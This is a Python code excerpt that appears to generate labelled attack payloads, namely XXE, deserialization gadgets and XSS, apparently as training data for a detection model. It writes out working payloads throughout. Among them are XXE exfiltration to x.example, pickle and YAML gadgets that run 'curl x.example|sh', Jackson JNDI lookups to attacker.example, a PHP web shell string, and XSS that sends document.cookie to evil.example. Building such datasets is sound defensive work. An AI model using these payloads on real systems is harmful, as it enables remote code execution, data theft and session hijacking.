        root = rng.choice(roots)
        t = rng.choice(targets)
        fam = ["entity", "param", "xinclude", "billion", "svg", "soap"][i % 6]
        decl = rng.choice(['<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>', ""])
        if fam == "entity":
            s = f'{decl}<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{t}">]><{root}><name>&xxe;</name></{root}>'
        elif fam == "param":
            s = f'{decl}<!DOCTYPE {root} [<!ENTITY % dtd SYSTEM "{t}"> %dtd; <!ENTITY % all "<!ENTITY send SYSTEM \'http://x.example/?%file;\'>"> %all;]><{root}>&send;</{root}>'
        elif fam == "xinclude":
            s = f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{t}"/></{root}>'
        elif fam == "billion":
            s = (f'{decl}<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                 '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>')
        elif fam == "svg":
            s = f'<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "{t}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>'
        else:
            s = (f'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE x [<!ENTITY xxe SYSTEM "{t}">]>'
                 f'<soap:Body><{root}>&xxe;</{root}></soap:Body></soap:Envelope>')
        out.append(Payload("xxe", s, "gen", f"xxe-{fam}", "xml_body"))
    return out


def gen_deser(rng: random.Random, n: int, java_classes: list[str]) -> list[Payload]:
    jcls = [c for c in java_classes if "." in c] or ["org.apache.commons.collections.functors.InvokerTransformer"]
    jcls += ["org.apache.commons.collections.functors.InvokerTransformer", "ysoserial.payloads.CommonsCollections1",
             "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "java.util.PriorityQueue",
             "org.springframework.beans.factory.ObjectFactory", "sun.reflect.annotation.AnnotationInvocationHandler"]
    out = []
    for i in range(n):
        fam = ["java-b64", "java-hex", "php", "pickle", "yaml", "dotnet", "jackson", "node"][i % 8]
        if fam in ("java-b64", "java-hex"):
            cls = rng.choice(jcls).encode()
            raw = b"\xac\xed\x00\x05sr\x00" + len(cls).to_bytes(1, "big") + cls + bytes(rng.getrandbits(8) for _ in range(rng.randint(20, 120)))
            s = base64.b64encode(raw).decode() if fam == "java-b64" else raw.hex()
        elif fam == "php":
            g = rng.choice(["Monolog\\Handler\\SyslogUdpHandler", "GuzzleHttp\\Cookie\\FileCookieJar", "Illuminate\\Broadcasting\\PendingBroadcast",
                            "stdClass", "Symfony\\Component\\Process\\Process", "User"])
            v = rng.choice(["/etc/passwd", "system", "id", "<?php system($_GET['c']); ?>"])
            s = f'O:{len(g)}:"{g}":1:{{s:4:"file";s:{len(v)}:"{v}";}}'
            if rng.random() < 0.4:
                s = base64.b64encode(s.encode()).decode()
        elif fam == "pickle":
            cmd = rng.choice(["id", "touch /tmp/pwn", "curl x.example|sh"])
            raw = f"cos\nsystem\n(S'{cmd}'\ntR.".encode()
            if rng.random() < 0.5:
                raw = b"\x80\x04\x95" + bytes([len(cmd) + 30]) + b"\x00" * 7 + b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c" + bytes([len(cmd)]) + cmd.encode() + b"\x94\x85\x94R\x94."
            s = base64.b64encode(raw).decode()
        elif fam == "yaml":
            s = rng.choice(['!!python/object/apply:os.system ["id"]', "!!python/object/new:subprocess.check_output [[\"id\"]]",
                            '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]',
                            "--- !ruby/object:Gem::Installer\ni: x", "!!python/object/apply:subprocess.Popen [[\"sh\", \"-c\", \"id\"]]"])
        elif fam == "dotnet":
            s = rng.choice(['{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}',
                            '{"$type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install","Path":"file:///c:/x.dll"}',
                            "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u" + base64.b64encode(bytes(rng.getrandbits(8) for _ in range(60))).decode()])
        elif fam == "jackson":
            s = rng.choice(['["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/a","autoCommit":true}]',
                            '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://attacker.example/x","autoCommit":true}',
                            '["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://attacker.example/a"}]',
                            '{"@type":"java.net.Inet4Address","val":"x.dnslog.example"}'])
        else:
            s = rng.choice(["{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
                            "_$$ND_FUNC$$_function(){return require('child_process').execSync('whoami')}()",
                            '{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"polluted":1}}}'])
        out.append(Payload("deserialization", s, "gen", f"deser-{fam}", rng.choice(["any", "cookie", "any"])))
    return out


def gen_xss(rng: random.Random, n: int) -> list[Payload]:
    """A small generated XSS family so train always has basic vectors in every encoding."""
    tags = ["<script>alert({v})</script>", "<img src=x onerror=alert({v})>", "<svg onload=alert({v})>",
            "<body onload=alert({v})>", "\"><script>alert({v})</script>", "'><img src=x onerror=prompt({v})>",
            "javascript:alert({v})", "<iframe src=javascript:alert({v})>", "<a href=\"javascript:alert({v})\">x</a>",
            "<details open ontoggle=alert({v})>", "<input autofocus onfocus=alert({v})>", "\" onmouseover=\"alert({v})",
            "<script src=//evil.example/x.js></script>", "<svg/onload=fetch('//evil.example/?c='+document.cookie)>",
            "<img src=\"x\" onerror=\"this.src='//evil.example/?'+document.cookie\">", "</textarea><script>alert({v})</script>"]
    vals = ["1", "document.domain", "document.cookie", "'xss'", "String.fromCharCode(88,83,83)", "/x/"]
    out = []
    for i in range(n):
        s = rng.choice(tags).format(v=rng.choice(vals))
        out.append(Payload("xss", _enc_variants(rng, s), "gen", "xss-basic"))
    return out
